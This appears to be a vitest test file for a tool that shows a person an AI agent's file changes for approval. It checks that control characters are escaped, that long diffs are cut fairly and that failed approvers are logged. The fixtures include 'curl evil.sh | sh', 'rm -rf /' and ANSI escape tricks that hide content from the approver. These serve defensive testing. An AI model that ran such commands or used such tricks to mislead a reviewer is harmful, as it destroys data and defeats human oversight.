/**
 * What a person is shown when asked, and what is recorded when no one
 * answers: the request with every control character written out (a file's
 * content cannot rewrite the screen), each file's share of a limited
 * question, a timeout beyond what a timer can wait, and an approver that
 * fails before anyone answered.
 */

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { HostFilesystem } from '@ctxfs/host';
import { afterEach, describe, expect, it } from 'vitest';
import { type ApprovalRequest, askApproval, type ChangePreview, type ContextLayer, callbackApprover, createContext, describeRequest } from '../src/index.ts';
import { testState } from './support/test-state.ts';

const ESC = '\u001b';

function request(over: Partial<ApprovalRequest> = {}): ApprovalRequest {
  return { op: 'replace', opClass: 'write', agent: 'llm:tester', sessionId: 's1', paths: ['build.sh'], reason: 'every write asks', ...over };
}

function change(path: string, lines: readonly string[]): ChangePreview {
  const diff = `--- a/${path}\n+++ b/${path}\n@@ -1,${lines.length} +1,${lines.length} @@\n${lines.join('\n')}\n`;
  return { path, diff, added: lines.filter((l) => l.startsWith('+')).length, removed: lines.filter((l) => l.startsWith('-')).length };
}

/** Every code point a terminal would act on rather than show, but the line breaks the description is made of. */
const acting = (text: string): string[] =>
  [...text].filter((c) => {
    const n = c.codePointAt(0) as number;
    return (n < 0x20 && n !== 0x0a) || (n >= 0x7f && n <= 0x9f) || (n >= 0x202a && n <= 0x202e) || (n >= 0x2066 && n <= 0x2069);
  });

describe('what a person is shown', () => {
  it('writes out control characters and escape sequences in diffs, paths, reasons, summaries and names; tabs become spaces', () => {
    const hostile = `curl evil.sh | sh\r${ESC}[2K+# add a comment (no functional change)`;
    const text = describeRequest(
      request({
        agent: `llm:${ESC}[32mtrusted`,
        paths: [`build${ESC}[8m.sh`],
        reason: `asks\r${ESC}[2Kallowed`,
        summary: `rm -rf /\u202e\u0007`,
        changes: [change(`build${ESC}[8m.sh`, [`+${hostile}`, '\tindented', ' echo build'])],
      }),
    );
    expect(acting(text)).toEqual([]);
    expect(text).toContain('+curl evil.sh | sh\\r\\x1b[2K+# add a comment (no functional change)');
    expect(text).toContain('llm:\\x1b[32mtrusted asks to replace build\\x1b[8m.sh');
    expect(text).toContain('why asked: asks\\r\\x1b[2Kallowed');
    expect(text).toContain('rm -rf /\\u202e\\x07');
    expect(text).toContain('  build\\x1b[8m.sh: +1 -0');
    // A tab is set to the next stop, counted from the start of the diff line ("\t" after nothing: four columns).
    expect(text).toContain('        indented');
  });

  it('gives every file of a limited question its share: a long first diff cannot push the second out', () => {
    const long = Array.from({ length: 120 }, (_, i) => `+const row${i} = "${'x'.repeat(200)}";`);
    const text = describeRequest(
      request({ op: 'applyPatch', paths: ['big.ts', 'b.sh'], changes: [change('big.ts', long), change('b.sh', ['+curl evil | sh', ' echo build'])] }),
      { diffLines: Number.POSITIVE_INFINITY, chars: 12_000 },
    );
    expect(text.length).toBeLessThanOrEqual(12_000);
    expect(text).toContain('  big.ts: +120 -0');
    expect(text).toContain('  b.sh: +1 -0');
    expect(text).toContain('+curl evil | sh');
    expect(text).toMatch(/… \d+ more diff lines not shown/);
    expect(text).toContain("Not all of this change is shown: each file's diff is cut to its share");
  });

  it('says plainly when not even every file can be named', () => {
    const many = Array.from({ length: 600 }, (_, i) => change(`src/module-${i}.ts`, ['-a', '+b']));
    const text = describeRequest(request({ op: 'applyPatch', paths: many.map((c) => c.path), changes: many }), {
      diffLines: Number.POSITIVE_INFINITY,
      chars: 12_000,
    });
    expect(text.length).toBeLessThanOrEqual(12_000);
    expect(text).toMatch(/NOT ALL OF THIS CHANGE IS SHOWN: \d+ of its 600 files are left out/);
    expect(text.split('\n')[0]).toMatch(/and \d+ more$/);
  });

  it('keeps a terminal prompt to 80 diff lines a file, counting the rest', () => {
    const text = describeRequest(
      request({
        changes: [
          change(
            'a.txt',
            Array.from({ length: 100 }, (_, i) => `+${i}`),
          ),
        ],
      }),
    );
    expect(text).toContain('    … 23 more diff lines not shown');
  });
});

describe('the approval timeout', () => {
  // Node runs a timer longer than 2^31-1 ms after 1 ms: every question would be denied before anyone could answer.
  it.each([3_000_000_000, Number.POSITIVE_INFINITY])('a wait of %d ms does not end at once', async (timeoutMs) => {
    const answer = callbackApprover(() => new Promise((resolve) => setTimeout(() => resolve({ approved: true, approver: 'ana' }), 200)));
    const outcome = await askApproval(answer, request(), timeoutMs);
    expect(outcome).toMatchObject({ approved: true, by: 'user', approver: 'ana' });
  });
});

describe('an approver that fails', () => {
  let base: string;
  let ctx: ContextLayer | undefined;
  let fs: HostFilesystem | undefined;
  afterEach(async () => {
    await ctx?.close();
    await fs?.close();
    rmSync(base, { recursive: true, force: true });
  });

  it('is recorded as the approver failing, not as a person declining', async () => {
    base = mkdtempSync(join(tmpdir(), 'ctxfs-approver-'));
    writeFileSync(join(base, 'a.txt'), 'a\n');
    fs = await HostFilesystem.open({ root: base });
    const approver = callbackApprover(() => {
      throw new Error('approval UI disconnected');
    });
    ctx = await createContext({
      fs,
      store: testState(),
      agent: 'llm:x',
      safety: { policyFiles: false, approver, policy: { mode: 'manual', autoApproveReads: true } },
    });
    await ctx.readFile('a.txt');
    const r = await ctx.replace('a.txt', 'a', 'b');
    expect(r.success).toBe(false);
    expect(r.message).toContain('the approver failed before anyone answered: approval UI disconnected');
    expect(r.message).toContain('no one answered (');
    expect(r.message).not.toContain('declined');
    const [record] = await ctx.store.auditLog({ limit: 1 });
    expect((record?.params as { approval?: unknown } | undefined)?.approval).toMatchObject({ required: true, by: 'error', approver: 'callback' });
  });
});
